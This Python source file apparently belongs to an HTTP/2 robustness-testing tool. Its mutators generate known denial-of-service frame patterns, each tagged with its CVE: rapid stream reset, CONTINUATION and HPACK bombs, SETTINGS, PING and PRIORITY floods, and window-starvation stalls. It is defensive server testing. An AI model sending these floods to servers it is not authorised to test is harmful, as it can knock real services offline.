"""What costs a server of HTTP/2 more than its client, each bounded: answered, refused or closed."""

from random import Random

from mutators import _http2 as h2
from mutators._contract import HTTP2, mutator
from shadow.model import Edit, Expect, Headers, Known, Level, Request
from shadow.wire import http2_writing as w
from shadow.wire.http2_shape import END_STREAM, HEADERS

_MARKED = frozenset({b"shadow-run", b"shadow-trial"})
_MANY = 1_000
_PRIORITIES = b"".join(w.priority(stream, stream + 2) for stream in range(1_001, 3_001, 2))


@mutator(level=Level.FRAMING, expect=Expect.SURVIVE, over=HTTP2)
def rapid_reset(request: Request, _rng: Random, known: Known) -> Edit | None:
    """Streams that are opened and reset at once must not cost more than the connection (CVE-2023-44487).
    Those that are reset ask for nothing where the request may write.
    """
    one = h2.said(request, known)
    if one is None:
        return None
    count, fields = 500, one.fields if one.is_safe and one.ends_at_once else _harmless(one.fields)
    stream = 2 * count + 1
    frames = (w.rapid_resets(1, fields, count), h2.message(one, stream))
    return h2.edit(one, f"opened and reset {count} streams", *frames, stream=stream)


@mutator(level=Level.FRAMING, expect=Expect.SURVIVE, over=HTTP2)
def continuation_flood(request: Request, rng: Random, known: Known) -> Edit | None:
    """A field block that goes on for thousands of frames must not be kept (CVE-2024-27316, VU#421644):
    refused, or closed.
    """
    one = h2.said(request, known)
    if one is None:
        return None
    field = b"\x00\x0ex-shadow-extra\x40" + b"a" * 64
    piece, count = rng.choice(((b"", 5_000), (field, 2_000)))
    ends = END_STREAM if one.ends_at_once else 0
    start = w.frame(HEADERS, ends, 1, w.field_block(one.fields))
    frames = w.continuation(1, piece, ends_headers=False) * count + w.continuation(1, b"")
    return h2.edit(one, f"sent the fields in {count} frames", start, frames, h2.rest(one))


@mutator(level=Level.FRAMING, expect=Expect.SURVIVE, over=HTTP2)
def hpack_bomb(request: Request, _rng: Random, known: Known) -> Edit | None:
    """A few bytes that stand for megabytes of fields are refused before they are spelled out
    (CVE-2016-6581, RFC 7541 §7.3).
    """
    one = h2.said(request, known)
    if one is None:
        return None
    return h2.edit(one, "named a long field 4000 times", w.hpack_bomb(1, one.fields))


@mutator(level=Level.FRAMING, expect=Expect.SURVIVE, over=HTTP2)
def settings_flood(request: Request, rng: Random, known: Known) -> Edit | None:
    """Each SETTINGS asks for an acknowledgement; many are answered, or end the connection
    (CVE-2019-9515).
    """
    each = rng.choice((w.settings_frame(), w.settings_frame([(w.INITIAL_WINDOW_SIZE, 1 << 20)])))
    return _flooded(request, known, each * _MANY, f"sent settings {_MANY} times")


@mutator(level=Level.FRAMING, expect=Expect.SURVIVE, over=HTTP2)
def ping_flood(request: Request, _rng: Random, known: Known) -> Edit | None:
    """Each PING asks for an answer; many are answered, or end the connection (CVE-2019-9512)."""
    return _flooded(request, known, w.ping() * _MANY, f"sent {_MANY} PINGs")


@mutator(level=Level.FRAMING, expect=Expect.SURVIVE, over=HTTP2)
def priority_flood(request: Request, _rng: Random, known: Known) -> Edit | None:
    """Priorities of thousands of streams must cost no tree of them (CVE-2019-9513)."""
    return _flooded(request, known, _PRIORITIES, "sent priorities of 1000 streams")


@mutator(level=Level.FRAMING, expect=Expect.SURVIVE, over=HTTP2)
def window_flood(request: Request, _rng: Random, known: Known) -> Edit | None:
    """Windows may be widened byte by byte (RFC 9113 §6.9): done, or the connection's end (CWE-400)."""
    return _flooded(request, known, w.window_update(0, 1) * _MANY, f"widened the window {_MANY} times")


@mutator(level=Level.FRAMING, expect=Expect.SURVIVE, over=HTTP2)
def empty_frame_flood(request: Request, _rng: Random, known: Known) -> Edit | None:
    """Empty frames that do not end the stream cost work and nothing else (CVE-2019-9518): taken, or the
    connection's end.
    """
    one = h2.said(request, known)
    if one is None or one.trailers:
        return None
    body = w.data(1, one.body[:16_384], ends_stream=False) if one.body else b""
    more = w.data(1, one.body[16_384:]) if len(one.body) > 16_384 else b""
    empty = w.data(1, b"", ends_stream=False) * _MANY
    frames = (w.headers(1, one.fields, ends_stream=False), empty, body, more or w.data(1, b""))
    return h2.edit(one, f"sent {_MANY} empty frames", *frames)


@mutator(level=Level.FRAMING, expect=Expect.SURVIVE, over=HTTP2)
def unknown_frame_flood(request: Request, _rng: Random, known: Known) -> Edit | None:
    """Frames that are not known are ignored, and many may end the connection (RFC 9113 §5.5, §10.5)."""
    return _flooded(request, known, w.frame(0x2A, 0, 0, bytes(16)) * _MANY, f"sent {_MANY} unknown frames")


@mutator(level=Level.NETWORK, expect=Expect.SURVIVE, over=HTTP2)
def withhold_window(request: Request, _rng: Random, known: Known) -> Edit | None:
    """An answer waits while its client allows no byte of it (RFC 9113 §6.9): it comes afterwards, or the
    server has lost its patience (CVE-2019-9511, CVE-2019-9517).
    """
    one = h2.said(request, known)
    if one is None:
        return None
    start = w.opening() + w.settings_frame([(w.INITIAL_WINDOW_SIZE, 0)]) + h2.message(one)
    return h2.sliced(one, "held the window shut for 1 s", (start, w.window_update(1, 1 << 20)), 1.0)


@mutator(level=Level.NETWORK, expect=Expect.SURVIVE, over=HTTP2)
def drip_window(request: Request, _rng: Random, known: Known) -> Edit | None:
    """A window of a byte at a time makes a server send a byte at a time (CVE-2019-9511): it does, or ends
    the stream.
    """
    one = h2.said(request, known)
    if one is None:
        return None
    start = w.opening() + w.settings_frame([(w.INITIAL_WINDOW_SIZE, 1)]) + h2.message(one)
    drops = (w.window_update(1, 1),) * 10
    return h2.sliced(one, "let the answer drip", (start, *drops, w.window_update(1, 1 << 20)), 0.05)


def _flooded(request: Request, known: Known, flood: bytes, what: str) -> Edit | None:
    one = h2.said(request, known)
    return None if one is None else h2.edit(one, what, flood, h2.message(one))


def _harmless(fields: Headers) -> Headers:
    """A request for nothing, of the same origin and bearing the same marks."""
    kept = {name: value for name, value in fields if name in (b":scheme", b":authority")}
    marks = [each for each in fields if each[0] in _MARKED]
    return ((b":method", b"OPTIONS"), *kept.items(), (b":path", b"/"), *marks)
